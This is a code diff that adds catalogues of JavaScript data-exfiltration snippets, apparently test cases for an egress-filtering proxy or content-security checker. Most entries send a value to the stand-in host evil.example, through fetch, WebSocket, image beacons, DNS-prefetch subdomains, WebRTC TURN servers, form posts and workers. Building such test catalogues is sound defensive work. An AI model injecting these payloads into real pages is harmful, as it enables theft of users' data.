@@ -101,5 +101,47 @@ export const EGRESS_TRICKS: readonly Trick[] = [
   ),
   js('a server of ours', `fetch('http://own.example/?'+V,{mode:'no-cors'})`),
   js('CSP report', `location.href='/csp?'+V`),
+  js('WebSocket to a name that tells', `new WebSocket('ws://'+V+'.evil.example/')`),
+  js('WebSocket over TLS to a name that tells', `new WebSocket('wss://'+V+'.evil.example/')`),
+  js('fetch to a name that tells', `fetch('http://'+V+'.evil.example/',{mode:'no-cors'})`),
+  js('fetch over TLS to a name that tells', `fetch('https://'+V+'.evil.example/',{mode:'no-cors'})`),
+  js('image at a name that tells', `new Image().src='http://'+V+'.evil.example/'`),
+  js('a page at a name that tells', `location.href='https://'+V+'.evil.example/'`),
+  js('a window at a name that tells', `window.open('http://'+V+'.evil.example/')`),
+  js(
+    'names that tell, in links that load ahead',
+    add(
+      `'<link rel=dns-prefetch href="//'+V+'a.evil.example"><link rel=preconnect href="https://'+V+'b.evil.example"><link rel=prefetch href="https://'+V+'c.evil.example/">'`,
+    ),
+  ),
+  js(
+    'WebRTC to a name that tells',
+    `const p=new RTCPeerConnection({iceServers:[{urls:'stun:'+V+'.evil.example:3478'},{urls:'turn:'+V+'.evil.example:443?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
+  ),
   js('a portal of names', `for(let i=0;i<3;i++)new Image().src='http://'+V+i+'.evil.example/x'`),
+]
+
+const S = 'https://evil.example'
+
+/** The same from a page over TLS, where the proxy sees hosts alone. */
+export const SECURE_TRICKS: readonly Trick[] = [
+  js('fetch', `fetch('${S}/?'+V,{mode:'no-cors'})`),
+  js('POST', `fetch('${S}/',{method:'POST',mode:'no-cors',body:V})`),
+  js('POST to its own host', `fetch('/own',{method:'POST',body:V})`),
+  js('beacon', `navigator.sendBeacon('${S}/',V)`),
+  js('image', `new Image().src='${S}/i?'+V`),
+  js('location', `location.href='${S}/l?'+V`),
+  js(
+    'form by POST',
+    add(`'<form id=f method=post action="${S}/p"><input name=v value="'+V+'"></form>'`) + `;f.submit()`,
+  ),
+  js('WebSocket', `new WebSocket('wss://evil.example/?'+V)`),
+  js('WebSocket to a name that tells', `new WebSocket('wss://'+V+'.evil.example/')`),
+  js('WebSocket to its own host', `const w=new WebSocket('wss://shop.example/ws');w.onopen=()=>w.send(V)`),
+  js('worker', `new Worker(URL.createObjectURL(new Blob(["fetch('${S}/wk?"+V+"',{mode:'no-cors'})"])))`),
+  js(
+    'WebRTC by TLS',
+    `const p=new RTCPeerConnection({iceServers:[{urls:'turns:evil.example:443?transport=tcp',username:V,credential:V}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
+  ),
+  js('preconnect', add(`'<link rel=preconnect href="https://'+V+'.evil.example">'`)),
 ]
